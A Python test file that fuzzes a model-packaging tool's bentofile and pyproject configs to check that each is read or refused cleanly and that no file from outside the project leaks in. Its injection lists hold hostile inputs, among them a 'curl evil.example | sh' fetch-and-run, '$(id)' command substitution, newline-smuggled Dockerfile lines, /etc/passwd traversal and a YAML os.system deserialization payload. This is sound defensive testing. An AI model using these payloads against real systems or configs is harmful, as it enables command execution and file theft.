"""Bentofiles that nobody should write, by the hundred: each is read or refused in words, and nothing from outside the
project gets in."""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ekiben.errors import EkibenError
from ekiben.packager.bentofile.bentofile import Bentofile
from ekiben.packager.bentofile.loading import load_bentofile
from ekiben.packager.bentofile.schema import LEVELS
from ekiben.packager.describing.description import Description, ServiceDescription
from ekiben.packager.draft import Draft
from ekiben.packager.manifest import manifest_of
from ekiben.packager.models import PinnedModels
from ekiben.packager.readme import readme
from ekiben.packager.request import BuildRequest
from ekiben.packager.selection.selection import select_files
from ekiben.packager.selection.staging import stage_source
from ekiben.report import SilentReporter

CANARY = "canary-5f1d"  # stands in files outside the project, which no Bento may hold
DESCRIPTION = Description("Echo", (ServiceDescription("Echo", "service:Echo", {}, ()),), (), {}, {})

KEYS = sorted({key for level in LEVELS.values() for key in level.model_fields} | {"tag", "filter", "alias", "stage"})
PATHS = ["../outside.txt", "/etc/passwd", "link", "linked/x", "inside/link", "service.py", ".", "..", "~/x", "a\0b"]
INJECTIONS = [
    "x\nRUN id",
    "x\r\nUSER root",
    "x\u2028RUN id",
    "x; curl evil.example | sh",
    "$(id)",
    "`id`",
    "x && id",
    "\\",
    "x\\\n",
    '"',
    "'",
    "--mount=type=secret",
    "file: ../outside.txt",
    "file:/etc/passwd",
    "${args.x}",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "https://user:word@host.example/simple",
    "file:///etc",
    "git+https://host.example/x",
    "\u202egnp.exe",
    "é" * 300,
    "",
    " ",
    "-",
    "!",
    "**/" * 30,
    "*" * 200,
    "[",
    "label:a=b",
    "iris:latest",
    "3.11",
    "python:3.11",
    "all",
    "build",
    "NAME",
]
YAML_TRICKS = [
    "a: &a [*a]",
    "a: &a {b: *a}",
    "<<: {service: x}",
    "? [1, 2]\n: 3",
    "service: !!python/object/apply:os.system ['touch canary']",
    "service: !!binary aGk=",
    "labels: !!set {a, b}",
    "service: !!timestamp 2001-99-99",
    "include: !!omap [a: b]",
    "- a\n- b",
    "---\na: 1\n---\nb: 2",
    "service: 'x\n",
    "\t- x",
    "%YAML 9.9\n---\na: 1",
    "{" * 200,
    "[" * 40 + "]" * 40,
    "x: " + "9" * 6000,
    "service: .inf",
    "service: 0x7fffffffffffffffffffffff",
    "include: ~",
    "\ufeffservice: service:Echo",
    "service: \\ud800",
    'service: "\\ud800"',
    "a" * 5000 + ": 1",
    "null: 1",
    "true: 1",
    "1.5: 1",
    "service: service:Echo\nservice: service:Other",
]

texts = st.sampled_from(INJECTIONS + PATHS) | st.text(max_size=12)
scalars = texts | st.none() | st.booleans() | st.integers(-3, 10**20) | st.floats() | st.dates()
keys = st.sampled_from(KEYS) | texts
values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(keys, inner, max_size=3), max_leaves=8
)


# A good value of each key, by which the shape of the bad ones is known, too; of other keys, text.
GOOD: dict[str, object] = {
    "service": "service:Echo",
    "name": "echo",
    "description": "file: inside/a.txt",
    "labels": {"a": "b"},
    "include": ["*.py", "/inside/*.txt"],
    "exclude": ["*.tmp"],
    "models": [{"tag": "iris", "alias": "flowers", "filter": "label:a=b"}],
    "envs": [{"name": "A", "value": "b", "stage": "all"}],
    "args": {"a": "b"},
    "packages": ["numpy"],
    "requirements_txt": "inside/a.txt",
    "find_links": ["inside"],
    "lock_tool": "uv",
    "index_url": "https://host.example/simple",
    "extra_index_url": ["https://host.example/simple"],
    "trusted_host": ["host.example"],
    **dict.fromkeys(("lock_packages", "no_index", "pack_git_packages"), True),
    "distro": "debian",
    "python_version": "3.11",
    "base_image": "python:3.11",
    "system_packages": ["curl"],
    "env": {"A": "b"},
    **dict.fromkeys(("setup_script", "dockerfile_template"), "inside/a.txt"),
    "channels": ["conda-forge"],
    "dependencies": ["curl"],
}
USUAL = {key: GOOD[key] for key in ("service", "include")}


def spoilt(good: object) -> st.SearchStrategy[object]:
    """Something of the shape of `good` with bad texts in it, at any depth."""
    match good:
        case list():
            return st.lists(texts, max_size=3) | st.tuples(*map(spoilt, good)).map(list)
        case dict():
            one = {key: st.just(value) | spoilt(value) for key, value in good.items()}
            return st.dictionaries(texts, texts, max_size=2) | st.fixed_dictionaries(one)
        case bool():
            return st.booleans()
        case _:
            return texts


def value_of(key: str) -> st.SearchStrategy[object]:
    """Good, of the right shape, or now and then anything."""
    good = GOOD.get(key, "x")
    return st.integers(0, 9).flatmap(lambda n: st.just(good) if n < 4 else spoilt(good) if n < 9 else values)


def level(name: str) -> st.SearchStrategy[dict[str, object]]:
    """A mapping with a few keys of one level."""
    own = sorted(LEVELS[name].model_fields.keys() & GOOD.keys())
    chosen = st.sets(st.sampled_from(own), max_size=2)
    return chosen.flatmap(lambda keys: st.fixed_dictionaries({key: value_of(key) for key in sorted(keys)}))


@st.composite
def bentofiles(draw: st.DrawFn) -> dict[str, object]:
    """A usual bentofile with a few keys more, or others in their place."""
    found = {**USUAL, **draw(level(""))}
    for name in draw(st.sets(st.sampled_from(["python", "docker", "conda"]), max_size=2)):
        found[name] = draw(level(name))
    return found


@st.composite
def yaml_texts(draw: st.DrawFn) -> str:
    """YAML, and what is nearly YAML."""
    text = yaml.safe_dump(draw(bentofiles()), allow_unicode=True, sort_keys=False)
    match draw(st.integers(0, 9)):
        case 0:
            return f"{text}{draw(st.sampled_from(YAML_TRICKS))}\n"
        case 1:
            return draw(st.sampled_from(YAML_TRICKS))
        case 2:
            cut = draw(st.integers(0, len(text)))
            return text[:cut] + draw(st.text(max_size=3)) + text[cut + draw(st.integers(0, 3)) :]
        case _:
            return text


@st.composite
def toml_texts(draw: st.DrawFn) -> str:
    """pyproject.toml with a build table, and what is nearly that."""
    table = draw(st.sampled_from(["tool.ekiben.build", "tool.bentoml.build", "tool.ekiben.build", "project"]))
    lines = [f"[{table}]"]
    for key, value in draw(bentofiles()).items():
        lines.append(f"{key} = {draw(texts) if draw(st.integers(0, 19)) == 19 else _toml(value)}")
    lines += draw(
        st.lists(st.sampled_from(["[project]", "name = 'x y'", "dependencies = [1]", "[a", "[[b]]"]), max_size=3)
    )
    return "\n".join(lines)


def _toml(value: object) -> str:
    match value:
        case dict():
            return f"{{{', '.join(f'{_toml(str(key))} = {_toml(one)}' for key, one in value.items())}}}"
        case list():
            return f"[{', '.join(map(_toml, value))}]"
        case bool():
            return str(value).lower()
        case int() | float():
            return str(value)
        case _:
            escaped = "".join(
                one if one.isprintable() and one not in '"\\' else f"\\u{ord(one):04x}" for one in str(value)
            )
            return f'"{escaped}"'


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder with a project, and beside it what must stay there."""
    root = tmp_path_factory.mktemp("sandbox")
    (root / "outside.txt").write_text(CANARY)
    (root / "elsewhere").mkdir()
    (root / "elsewhere/x").write_text(CANARY)
    project = root / "project"
    (project / "inside").mkdir(parents=True)
    (project / "service.py").write_text("class Echo: ...\n")
    (project / "link").symlink_to("../outside.txt")
    (project / "linked").symlink_to("../elsewhere")
    (project / "inside/link").symlink_to(root / "outside.txt")
    (project / "inside/a.txt").write_text("a")
    yield root
    shutil.rmtree(root)


def pack(project: Path, target: Path) -> str:
    """What a build does with a bentofile up to the Containerfile, but for the service, the models and the lock."""
    bentofile = load_bentofile(project)
    selection = select_files(project, bentofile.include, bentofile.exclude)
    stage_source(selection, target, SilentReporter())
    for file in selection.files:
        assert file.source.resolve().is_relative_to(project.resolve()), file
    page = readme(bentofile, "echo", DESCRIPTION, ())
    return page + _image_text(bentofile)


def _image_text(bentofile: Bentofile) -> str:
    request = BuildRequest(project=bentofile.project)
    draft = Draft(
        request=request,
        bentofile=bentofile,
        service="service:Echo",
        python=bentofile.docker.python_version or "3.11",
        description=DESCRIPTION,
        name="echo",
        models=PinnedModels(),
    )
    return repr(manifest_of(draft).to_dict())


def survives(sandbox: Path, name: str, text: str) -> None:
    """Packs the project with this bentofile; fails where anything but an error in words comes of it."""
    project = sandbox / "project"
    before = files_of(sandbox)
    (project / name).write_text(text, encoding="utf-8", errors="surrogatepass", newline="")
    with tempfile.TemporaryDirectory() as folder:
        try:
            said = pack(project, Path(folder, "src"))
        except EkibenError as error:
            said = f"{error.message} {error.hint}"
        finally:
            (project / name).unlink()
        assert CANARY not in said
        assert "Traceback" not in said
        for file in Path(folder).rglob("*"):
            assert not file.is_symlink()
            assert not file.is_file() or CANARY.encode() not in file.read_bytes()
    assert files_of(sandbox) == before


def files_of(folder: Path) -> dict[Path, int]:
    """Every file and link below, with the time of its last change."""
    return {path: path.lstat().st_mtime_ns for path in folder.rglob("*") if not path.is_dir() or path.is_symlink()}


many: Callable[[Callable[..., None]], Callable[..., None]] = settings(
    max_examples=500, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)


@many
@given(text=yaml_texts())
def test_no_bentofile_gives_a_traceback_or_lets_a_file_from_outside_in(sandbox: Path, text: str) -> None:
    survives(sandbox, "bentofile.yaml", text)


@many
@given(text=toml_texts())
def test_no_pyproject_gives_a_traceback_or_lets_a_file_from_outside_in(sandbox: Path, text: str) -> None:
    survives(sandbox, "pyproject.toml", text)


@pytest.mark.parametrize("text", YAML_TRICKS)
def test_a_trick_of_yaml_is_read_or_refused(sandbox: Path, text: str) -> None:
    survives(sandbox, "bentofile.yaml", text)
    survives(sandbox, "bentofile.yaml", f"service: service:Echo\n{text}\n")
